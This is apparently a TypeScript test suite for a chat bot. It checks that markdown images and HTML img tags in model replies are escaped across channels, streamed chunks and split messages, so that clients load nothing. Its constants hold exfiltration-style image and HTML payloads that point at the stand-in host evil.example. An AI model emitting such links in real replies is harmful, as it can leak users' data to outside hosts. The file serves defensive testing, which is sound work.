import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { spoken } from '../conversation/timed-bot.ts';
import { startBot } from '../support/bot.ts';
import { speaking, texts, whileTimePasses } from './speaking.ts';

const IMAGE = '![secret](https://evil.example/x?q=42)';
const HTML = '<img src="https://evil.example/y">';
const SAFE_IMAGE = '[secret](https://evil.example/x?q=42)';
const SAFE_HTML = '&lt;img src="https://evil.example/y">';
const ALL = ['emulator', 'webchat', 'directline', 'msteams', 'slack', 'telegram', 'directlinespeech', 'a-new-one'];

const TIMEOUT = { timeout: 30_000 };

describe('what the bot sends makes a client load nothing', TIMEOUT, () => {
  for (const channelId of ALL) {
    it(`in an answer to ${channelId}`, async (t) => {
      const bot = await startBot({ turns: [spoken(`See ${IMAGE} ${HTML}`)] });
      t.after(() => bot[Symbol.asyncDispose]());
      await bot.says('hello', { channelId, conversation: { id: 'c', isGroup: channelId === 'msteams' } });
      const [reply] = await bot.connector.whenMessages(1);
      assert.ok(reply?.body.text.startsWith(`See ${SAFE_IMAGE} ${SAFE_HTML}`));
      if (channelId === 'directlinespeech') assert.equal(reply?.body.speak, reply?.body.text);
      for (const { body } of bot.connector.calls) assert.doesNotMatch(JSON.stringify(body), /!\[|<img/);
    });
  }

  it('in an answer that goes back in the response', async (t) => {
    const bot = await startBot({ turns: [spoken(IMAGE)] });
    t.after(() => bot[Symbol.asyncDispose]());
    const response = await bot.says('hello', { channelId: 'webchat', deliveryMode: 'expectReplies' });
    const { activities } = (await response.json()) as { activities: { text?: string }[] };
    assert.deepEqual(
      activities.map(({ text }) => text),
      [SAFE_IMAGE],
    );
  });

  for (const channelId of ['msteams', 'webchat']) {
    it(`in the chunks of a streamed answer (${channelId}), which the end continues`, async (t) => {
      const { bot, clock, rules, say, end } = await speaking(t, channelId);
      for (const part of [
        'Look',
        '!',
        '[sec',
        'ret](https://evil',
        '.example/x?q=42) and <i',
        'mg src="',
        'https://evil.example/y"> !',
      ]) {
        say(part);
        await clock.advance(1_000);
        await clock.advance(1_000);
      }
      end();
      await whileTimePasses(clock, bot.connector.whenMessages(1));
      const shown = texts(bot).slice(channelId === 'msteams' ? 1 : 0);
      assert.equal(shown.at(-1), `Look${SAFE_IMAGE} and ${SAFE_HTML} !`);
      for (const [index, text] of shown.entries()) {
        assert.doesNotMatch(text, /!\[|<img/);
        assert.ok(
          shown.slice(index).every((later) => later.startsWith(text)),
          text,
        );
      }
      assert.deepEqual(rules.violations, []);
    });
  }

  it('in the parts of a long answer, each of which is rendered alone', async (t) => {
    const line = `${HTML} ${'and so on '.repeat(8)}\n`;
    const bot = await startBot({ turns: [spoken(`Code:\n\`\`\`html\n${line.repeat(60)}\`\`\``)] });
    t.after(() => bot[Symbol.asyncDispose]());
    await bot.says('hello', { channelId: 'slack' });
    const [first, second] = await bot.connector.whenMessages(2);
    assert.ok(first?.body.text.startsWith('Code:\n```html\n<img '));
    assert.ok(first?.body.text.endsWith('\n```'), 'its code ends with it');
    assert.match(second?.body.text, /^```html\n<img .*\n```\n\n\[Listen/s);
    for (const { body } of bot.connector.messages) assert.ok(body.text.length <= 4_000);
  });

  it('while the model still gets its own words in the history', async (t) => {
    const bot = await startBot({ turns: [spoken(IMAGE), 'Next'] });
    t.after(() => bot[Symbol.asyncDispose]());
    await bot.says('hello');
    await bot.connector.whenMessages(1);
    bot.simulator.dropAll();
    await bot.says('again');
    await bot.connector.whenMessages(2);
    const told = bot.events.filter(({ from, event }) => from === 'client' && event['previous_item_id'] === 'root');
    assert.ok(JSON.stringify(told).includes(IMAGE));
  });
});
